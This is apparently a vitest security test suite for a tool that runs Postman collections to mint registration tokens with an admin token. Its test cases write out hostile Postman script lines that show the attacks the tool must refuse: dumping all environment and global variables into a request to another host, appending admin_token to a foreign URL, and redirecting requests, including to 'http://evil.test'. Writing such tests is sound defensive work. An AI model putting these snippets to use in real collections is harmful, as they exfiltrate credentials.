import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Item } from '../../scripts/postman/collection-format.ts';
import { type Attack, type Attempted, attacks, CANARY } from '../support/attacks.ts';
import { collectionBytes, folder } from '../support/builders.ts';
import { type Minted, mint, type Scene, script, useWorker } from '../support/hostile-run.ts';
import { runHere } from '../support/in-process.ts';
import { findLeaks, readAllFiles } from '../support/leaks.ts';
import { createStandIn } from '../support/stand-in.ts';

useWorker();

/** A request that logs in at somebody else's host, with what it does before or after that. */
const login = ({ other }: Scene, exec = '', listen: 'prerequest' | 'test' = 'test'): Item => ({
  name: 'Login',
  request: { method: 'POST', url: `${other}/token`, body: { mode: 'raw', raw: 'a={{admin_token}}' } },
  ...script(listen, exec),
});
const options = { adminTokenFrom: 'file' as const };

/** One of the two was about to ask the other's host. */
const refused = (name: string, how: (scene: Scene) => Parameters<typeof mint>[0]): Attack<Minted> => ({
  name,
  attempt: () => mint((where) => ({ options, ...(how(where) as object) })),
  happened: ({ code }) => expect(code).toBe('host-refused'),
  outcome: ({ atIdp, atOther }) => {
    expect(atIdp.filter((line) => !line.includes(`POST /mint Bearer ${CANARY.admin}`))).toEqual([]);
    expect(atOther.filter((line) => !line.startsWith('POST /token  '))).toEqual([]);
  },
});

attacks('the admin token is not in the reach of what logs in, nor the other way round', [
  {
    name: 'a login elsewhere that sends all it can see',
    attempt: () =>
      mint((where) => ({
        options,
        logins: [
          login(
            where,
            "pm.request.body.raw = ['variables', 'environment', 'globals', 'collectionVariables'].map((each) => JSON.stringify(pm[each].toObject())).join();",
            'prerequest',
          ),
        ],
      })),
    happened: ({ atOther }) => expect(atOther).toEqual([expect.stringMatching(/^POST \/token /)]),
    outcome: ({ code, atIdp, atOther }) => {
      expect(code).toBeNull();
      expect(atIdp).toEqual([expect.stringContaining(`Bearer ${CANARY.admin}`)]);
      expect(findLeaks(CANARY.admin, { other: atOther.join('\n') })).toEqual([]);
    },
  },
  refused('a script of the login asks the IdP', (where) => ({
    logins: [login(where, `pm.sendRequest('${where.idp}/mint', () => {});`)],
  })),
  refused('the login is moved to the IdP', (where) => ({
    logins: [login(where, `pm.request.url.update('${where.idp}/mint');`, 'prerequest')],
  })),
  refused('the mint asks the host of the login', (where) => ({
    logins: [login(where)],
    item: script('prerequest', `pm.sendRequest('${where.other}/?' + pm.variables.get('admin_token'), () => {});`),
  })),
  refused('the mint is moved to the host of the login', (where) => ({
    logins: [login(where)],
    item: script('prerequest', `pm.request.url.update('${where.other}/token');`),
  })),
  refused('a second login whose host the first one sets', (where) => ({
    logins: [
      login(where, "pm.environment.set('next', 'http://evil.test');"),
      { name: 'Second', request: { method: 'GET', url: '{{next}}/x' } },
    ],
  })),
  {
    name: 'a login over plain http beyond this machine',
    attempt: () => mint(() => ({ options, logins: [{ name: 'Login', request: { url: 'http://login.test/token' } }] })),
    happened: ({ code }) => expect(code).toBe('insecure-url'),
    outcome: ({ message, atIdp }) =>
      expect([message, atIdp]).toEqual(['What "Login" sends would go to login.test unencrypted (http).', []]),
  },
]);

interface Ended extends Attempted {
  readonly code: string | null;
  /** What the IdP got, without what Docker was asked for. */
  readonly asked: readonly string[];
}

const MINT: Item = {
  name: 'DCR IAT',
  request: {
    method: 'POST',
    url: '{{idp}}/mint',
    auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{t}}' }] },
  },
};
const LOGIN: Item = {
  name: 'Login',
  request: { method: 'POST', url: '{{idp}}/token' },
};
const SET = "pm.environment.set('t', pm.response.text());";

/** `npm run iat -- --no-restart` with this collection; the IdP answers a login so. */
async function run(
  items: Item[],
  {
    token = CANARY.admin,
    status = 200,
    values = {},
    args = ['--login', 'Login'],
  }: {
    token?: string;
    status?: number;
    values?: Record<string, string>;
    args?: string[];
  } = {},
): Promise<Ended> {
  const { home, env, calls, answer } = await createStandIn();
  const { IAT_ADMIN_TOKEN: _, ...rest } = env;
  answer(/^POST \/token/, { status, body: token, headers: { 'content-type': 'text/plain' } });
  answer(/^POST \/mint/, {
    status: 201,
    body: JSON.stringify({ token: CANARY.token }),
    headers: { 'content-type': 'application/json' },
  });
  await mkdir(join(home, 'own'));
  await writeFile(join(home, 'own', 'c.json'), collectionBytes([folder('IdP', ...items)]));
  const variables = Object.entries({ idp: env['STAND_IN_URL'], ...values }).map(([key, value]) => ({ key, value }));
  await writeFile(join(home, 'own', 'e.json'), JSON.stringify({ values: variables }));
  const files = ['--collection', 'own/c.json', '-e', 'own/e.json'];
  const ended = await runHere([...files, '--no-restart', '--verbose', ...args], { cwd: home, env: rest });
  const reports = await readAllFiles(join(home, 'reports')).catch(() => ({}));
  return {
    shown: [ended.all, ...Object.values(reports)].join('\n'),
    code: ended.run.error?.code ?? null,
    asked: calls.filter(({ pid }) => pid === null).map(({ title }) => title),
  };
}

const row = (name: string, attempt: () => Promise<Ended>, code: string | null, asked: string[]): Attack<Ended> => ({
  name,
  attempt,
  happened: (ended) => expect(ended.asked, ended.shown.slice(0, 900)).toEqual(asked),
  outcome: (ended) => expect(ended.code, ended.shown.slice(0, 900)).toBe(code),
});
const BOTH = ['POST /token', 'POST /mint'];

attacks('what a login gets is a secret', [
  row(
    'a token that is the whole answer, in a log, in a check, in an odd variable',
    () => {
      const say = `${SET} console.log(pm.response.text()); pm.test('got ' + pm.response.text(), () => {}); pm.globals.set('note', pm.response.text());`;
      return run([{ ...LOGIN, ...script('test', say) }, MINT]);
    },
    null,
    BOTH,
  ),
  row(
    'a check that fails and quotes it',
    () =>
      run([
        {
          ...LOGIN,
          ...script('test', `${SET} pm.test(pm.response.text(), () => pm.expect(pm.response.text()).to.equal('x'));`),
        },
        MINT,
      ]),
    'login-failed',
    ['POST /token'],
  ),
  row(
    'an answer that refuses and quotes it',
    () =>
      run([{ ...LOGIN, ...script('test', SET) }, MINT], {
        status: 401,
        token: `{"error_description":"not ${CANARY.admin}"}`,
      }),
    'login-failed',
    ['POST /token'],
  ),
  row(
    'an answer of megabytes',
    () => run([{ ...LOGIN, ...script('test', SET) }, MINT], { token: CANARY.admin + 'x'.repeat(5_000_000) }),
    'login-failed',
    ['POST /token'],
  ),
  row(
    'a script before the mint that asks and prints',
    () => {
      const ask =
        "pm.sendRequest({ url: pm.variables.get('idp') + '/token', method: 'POST' }, (_, r) => { console.log(r.text()); pm.environment.set('t', r.text()); });";
      return run([{ ...MINT, ...script('prerequest', ask) }], { args: [] });
    },
    null,
    BOTH,
  ),
  row(
    'a token of the environment under a harmless name, printed',
    () =>
      run([{ ...MINT, ...script('test', "console.log(pm.variables.get('t'));") }], {
        values: { t: CANARY.admin },
        args: [],
      }),
    null,
    ['POST /mint'],
  ),
]);
